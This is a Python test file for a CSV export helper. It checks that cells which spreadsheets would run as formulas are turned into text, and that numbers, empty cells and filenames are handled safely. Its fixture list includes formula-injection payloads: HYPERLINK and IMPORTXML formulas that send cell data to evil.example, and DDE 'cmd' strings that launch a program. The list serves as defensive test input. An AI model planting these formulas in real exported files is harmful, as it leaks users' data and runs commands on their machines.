"""The one CSV writer (cocity.core.csv): every text cell that a spreadsheet would run as a formula
is written as text, the header included; empty cells stay empty; numbers stay numbers."""

import csv
import datetime
import io
from decimal import Decimal

import pytest

from cocity.core.csv import csv_response, csv_streaming_response, neutralise

# Cells that Excel, LibreOffice or Google Sheets would run as a formula (or as the start of one).
FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1, "click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")',
    "==",
    "-",
]
HARMLESS = ["", "plain", " =1+1 with a space first", "a=b", "3", "O'Brien", "e-mail", "1-2"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_become_text(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_untouched(text):
    assert neutralise(text) == text


@pytest.mark.parametrize("number", [-3, 0, 7, -2.5, Decimal("-1250000.50"), Decimal("10.00")])
def test_numbers_stay_numbers(number):
    assert neutralise(number) == number


def test_none_is_an_empty_cell_and_other_values_are_their_text():
    assert neutralise(None) == ""
    assert neutralise(datetime.date(2026, 1, 2)) == "2026-01-02"
    assert neutralise(True) == "True"
    assert neutralise(_Lazy("-lazy")) == "'-lazy"


class _Lazy:
    def __init__(self, text: str) -> None:
        self.text = text

    def __str__(self) -> str:
        return self.text


def _read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_response_guards_header_and_every_cell():
    header = ["id", "=title", "@note"]
    rows = [[1, "=1+1", ""], [-3, None, "+x"], [Decimal("-4.50"), "ok", "-"]]
    response = csv_response(header, rows, filename="plan.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="plan.csv"'
    assert _read(response.content.decode()) == [
        ["id", "'=title", "'@note"],
        ["1", "'=1+1", ""],
        ["-3", "", "'+x"],
        ["-4.50", "ok", "'-"],
    ]


def test_streaming_response_writes_the_same_file():
    header = ["=a", "b"]
    rows = [["-x", 2], ["", None]]
    streamed = csv_streaming_response(header, iter(rows), filename="pacts.csv")
    whole = csv_response(header, rows, filename="pacts.csv")
    assert b"".join(streamed.streaming_content) == whole.content
    assert streamed["Content-Disposition"] == 'attachment; filename="pacts.csv"'


def test_a_filename_with_quotes_cannot_break_the_header():
    response = csv_response(["a"], [], filename='x".csv')
    assert response["Content-Disposition"] == 'attachment; filename="x\\".csv"'
